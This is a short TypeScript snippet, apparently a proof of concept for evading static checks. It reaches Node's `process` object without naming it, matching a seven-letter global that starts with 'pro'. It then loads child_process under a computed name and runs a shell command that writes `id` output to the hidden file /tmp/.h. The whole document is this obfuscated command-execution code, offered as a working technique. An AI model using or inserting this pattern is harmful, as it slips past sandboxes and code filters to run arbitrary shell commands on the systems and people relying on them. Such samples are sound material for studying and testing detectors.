// Finds `process` among the globals' names and reaches it through a type
// assertion, then loads child_process with getBuiltinModule by a computed name.
const names: string[] = Object.getOwnPropertyNames(globalThis);
const hostName = names.find((n) => n.startsWith('pro') && n.length === 7) ?? '';
const host = (globalThis as unknown as Record<string, any>)[hostName];
const spawner = host.getBuiltinModule(['child', 'process'].join('_'));
spawner.execFileSync('sh', ['-c', 'id > /tmp/.h']);
